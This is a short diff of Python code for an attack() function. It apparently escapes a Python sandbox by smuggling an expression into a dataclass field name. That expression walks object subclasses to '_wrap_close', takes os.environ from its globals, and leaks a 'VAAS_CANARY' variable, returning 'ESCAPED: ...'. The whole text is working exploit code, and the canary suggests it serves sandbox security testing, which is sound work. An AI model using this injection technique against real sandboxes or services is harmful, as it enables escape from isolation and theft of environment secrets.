@@ -17,20 +17,23 @@ def leak(value):
 
 @dataclasses.dataclass
 class Base:
-    plain: int = dataclasses.field(init=False)
+    plain: int
+
+
+class Plain:
+    x = 1
 
 
 def attack():
     field = dataclasses.fields(Base)[0]
     field.name = (
-        "x, *, y=leak([c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
+        "x, leak([c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
         ".__init__.__globals__['environ']['VAAS_CANARY'])"
     )
-    try:
 
-        @dataclasses.dataclass(repr=False, eq=False, match_args=False)
-        class Evil(Base):
-            pass
-    except TypeError:
+    @dataclasses.dataclass(init=False, repr=False, match_args=False)
+    class Evil(Base):
         pass
+
+    Evil.__eq__(Plain(), Plain())
     return "ESCAPED: " + found[0]
